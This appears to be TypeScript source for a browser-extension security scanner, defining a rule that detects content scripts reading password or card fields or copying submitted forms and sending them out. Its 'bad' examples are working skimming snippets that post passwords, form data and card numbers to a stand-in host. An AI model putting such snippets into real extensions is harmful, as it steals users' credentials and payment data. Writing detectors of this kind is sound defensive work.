import { rolesOf } from '../../facts/extension/roles.ts';
import { objectOf, readsNamed } from '../../facts/javascript/query.ts';
import type { Facts } from '../../facts.ts';
import { SECRET_TYPED } from '../../extension/domReads.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import { secretFieldsOf } from '../../extension/secretFields.ts';
import type { SinkKind, SourceKind } from '../../taint/kinds.ts';
import { isMadeOf } from '../../program/madeOf.ts';
import { inContent } from '../../program/where.ts';
import { sendingWeight } from '../../verdict/sendingWeight.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { listenersOf } from './listeners.ts';
import { runsInPages } from './places.ts';
import { leavesBy } from './sendings.ts';
import { flowOut, gravest } from './flowOut.ts';
import { first } from '../../facts/first.ts';
import { say } from '../../../texts/say.ts';

const ENTERED: ReadonlySet<SourceKind> = new Set<SourceKind>(['form-input']);
const KEPT: readonly SinkKind[] = ['message', 'storage-write'];

export const passwordFieldRead = defineRule({
  id: 'password-field-read',
  title: 'Reads passwords or card numbers from web pages',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1056/'],
  why: 'Only a password manager has a reason to read these fields. Once sent to a server, they open the accounts of everyone who uses the extension.',
  remedy: 'Do not read password and card fields. A password manager keeps them encrypted on the device.',
  check: checkScripts(function* (judged) {
    if (!runsInPages(judged.facts, judged.file.path)) return;
    const read = [...fieldsRead(judged)];
    yield* read;
    if (read.length === 0) yield* formsCopied(judged);
  }),
  examples: {
    bad: [
      contentExample(
        'const p = document.querySelector("input[type=password]"); p.addEventListener("change", () => { fetch("https://x.example/p", { method: "POST", body: JSON.stringify({ u: location.href, p: p.value }) }); });',
      ),
      contentExample(
        'document.addEventListener("submit", (e) => { const data = Object.fromEntries(new FormData(e.target)); fetch("https://x.example/f", { method: "POST", body: JSON.stringify(data) }); }, true);',
      ),
      contentExample(
        'document.querySelectorAll(\'input[type="password"]\').forEach((f) => f.addEventListener("blur", () => chrome.runtime.sendMessage({ type: "cred", value: f.value })));',
      ),
      contentExample(
        'const card = document.querySelector("[autocomplete=cc-number]"); setInterval(() => { navigator.sendBeacon("https://x.example/c", card.value); }, 1000);',
      ),
    ],
    good: [
      contentExample(
        '$(document).on("submit", "#reader-note", function () { chrome.storage.local.set({ note: $("#reader-text").val() }); fetch("https://x.example/n", { method: "POST", body: $("#reader-text").val() }); });',
      ),
      contentExample('document.querySelectorAll("input[type=password]").forEach((f) => { f.type = "text"; });'),
      contentExample(
        'const p = document.querySelector("input[type=password]"); if (p.value.length < 8) warn("too short");',
      ),
      contentExample(
        'const form = document.querySelector("#mine"); form.addEventListener("submit", (e) => { save(form.elements.name.value); });',
      ),
      contentExample(
        'const q = document.querySelector("input[type=search]"); fetch("https://x.example/s?q=" + q.value);',
      ),
    ],
  },
});

/**
 * The same within a script that nothing names, but that may run in pages by a name made at run time: data of pages is
 * followed only where it is known that code runs there.
 */
function* readByUnnamed({ script, facts, file, hit }: Judged): Iterable<Hit> {
  const fields = facts.whole(rolesOf).has(file.path) ? [] : secretFieldsOf(script);
  if (fields.length === 0) return;
  const read = first(readsNamed(script, 'value'), MOST_READS).filter((value) =>
    isMadeOf(script, objectOf(script, value), fields),
  );
  const out = leavesBy(script, new Set(read), ['network']);
  if (out !== undefined && read[0] !== undefined)
    yield hit(read[0], { severity: 'critical', confidence: 'high', message: say('sent-to', out.to) });
}

const MOST_READS = 1000;

/** What is read of secret fields and leaves the page. */
function* fieldsRead(judged: Judged): Iterable<Hit> {
  const { script, facts, hit } = judged;
  yield* readByUnnamed(judged);
  const flows = facts
    .whole(flowsOf)
    .flows.filter(({ source }) => source.label === SECRET_TYPED && source.unit.script === script);
  const sent = gravest(facts, flows);
  if (sent !== undefined) {
    const { flow, ...weight } = sent;
    yield hit(flow.source.shown, { ...weight, message: say('sent-to', flow.sink.to ?? '*') });
    return;
  }
  // What is followed out of the extension is judged by where it goes: back to the page's own site, it is no finding.
  const followed = new Set(flows.flatMap(({ source, sink }) => (sink.kind === 'network' ? [source.shown] : [])));
  const kept = flows.find(({ source, sink }) => KEPT.includes(sink.kind) && !followed.has(source.shown));
  // Password managers do this: it weighs where some part of the extension sends on what it is told.
  if (kept !== undefined)
    yield hit(kept.source.shown, {
      severity: facts.whole(messagesLeave) ? 'medium' : 'low',
      message: kept.sink.kind === 'message' ? say('passed-to-background') : say('stored'),
    });
}

/** Every form that is sent is copied on its way. */
function* formsCopied({ script, facts, hit }: Judged): Iterable<Hit> {
  const isAfterFields = secretFieldsOf(script).length > 0;
  for (const listener of first(listenersOf(script, 'submit'))) {
    const fn = script.functions[listener.fn];
    if (fn === undefined || (!listener.everywhere && !isAfterFields)) continue;
    const out = flowOut(facts, script, ENTERED, fn, 'network');
    // To a server that the person set: the table of sendings weighs it.
    const severity = out === undefined ? undefined : sendingWeight(facts, out)?.severity;
    if (out !== undefined && severity !== undefined && severity !== 'low')
      yield hit(listener.value, {
        severity,
        message: out.sink.to === undefined ? say('forms-sent-server') : say('forms-sent-to', out.sink.to),
      });
    else if (out === undefined && listener.everywhere && flowOut(facts, script, ENTERED, fn, 'message') !== undefined)
      yield hit(listener.value, {
        severity: facts.whole(messagesLeave) ? 'high' : 'medium',
        message: say('forms-to-background'),
      });
  }
}

/** Whether some part of the extension sends to a server what scripts in pages tell it. */
function messagesLeave(facts: Facts): boolean {
  return facts
    .whole(flowsOf)
    .flows.some(({ source, sink, unit }) => sink.kind === 'network' && inContent(source.unit) && !inContent(unit));
}
